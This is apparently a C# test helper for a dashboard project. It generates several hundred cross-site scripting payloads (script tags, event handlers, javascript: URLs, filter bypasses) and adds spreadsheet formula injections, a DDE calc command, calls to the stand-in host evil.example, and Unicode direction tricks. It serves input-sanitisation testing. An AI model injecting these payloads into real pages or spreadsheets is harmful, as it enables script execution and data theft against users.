namespace LiveDashboard.Tests.Helpers;

/// <summary>Texts that try to become more than text: markup, scripts, formulas, other directions.</summary>
public static class Markup
{
    private static readonly string[] Runs =
    [
        "alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('//evil.example')", "import('//evil.example')", "eval(name)", "print()",
    ];

    private static readonly string[] Shapes =
    [
        "<script>{0}</script>", "<script src=//evil.example>{0}</script>", "</textarea><script>{0}</script>", "</title><script>{0}</script>",
        "<img src=x onerror={0}>", "<img/src=`x`onerror={0}>", "\"><img src=x onerror={0}>", "'><svg onload={0}>", "<svg/onload={0}>",
        "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x>", "<math><mi xlink:href=\"javascript:{0}\">x",
        "<iframe srcdoc=\"<script>{0}</script>\">", "<iframe src=javascript:{0}>", "<a href=javascript:{0}>x</a>",
        "<a href=\"java\tscript:{0}\">x</a>", "<a href=' javascript:{0}'>x</a>", "<body onload={0}>", "<input autofocus onfocus={0}>",
        "<select onfocus={0} autofocus>", "<textarea onfocus={0} autofocus>", "<details open ontoggle={0}>", "<video src onerror={0}>",
        "<audio src onerror={0}>", "<form><button formaction=javascript:{0}>x", "<object data=javascript:{0}>", "<embed src=javascript:{0}>",
        "<base href=javascript:{0}//>", "<link rel=stylesheet href=javascript:{0}>", "<meta http-equiv=refresh content='0;javascript:{0}'>",
        "<style>@import'javascript:{0}';</style>", "<div style=\"background:url(javascript:{0})\">", "<x onclick={0} tabindex=1>x",
        "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<template><script>{0}</script></template>", "{{{{{0}}}}}", "${{{0}}}",
        "<!--<img src=\"--><img src=x onerror={0}//\">", "<![CDATA[><script>{0}</script>]]>", "&lt;script&gt;{0}&lt;/script&gt;",
        "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "<scr<script>ipt>{0}</scr</script>ipt>", "<SCRIPT>{0}</SCRIPT>",
        "'; {0}; //", "\" onmouseover=\"{0}", "' onmouseover='{0}", "*/{0}/*", "]]>{0}",
    ];

    /// <summary>At least 300, each another.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Shapes.SelectMany(_ => Runs, (shape, run) => string.Format(System.Globalization.CultureInfo.InvariantCulture, shape, run)).Distinct(),
        "=HYPERLINK(\"//evil.example\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\u202Eevil\u202C", "\u2066x\u2069", "a\u200Bb", "\uFEFFx",
        "<bdo dir=rtl>x</bdo>", "%3Cscript%3Ealert(1)%3C/script%3E",
    ];
}
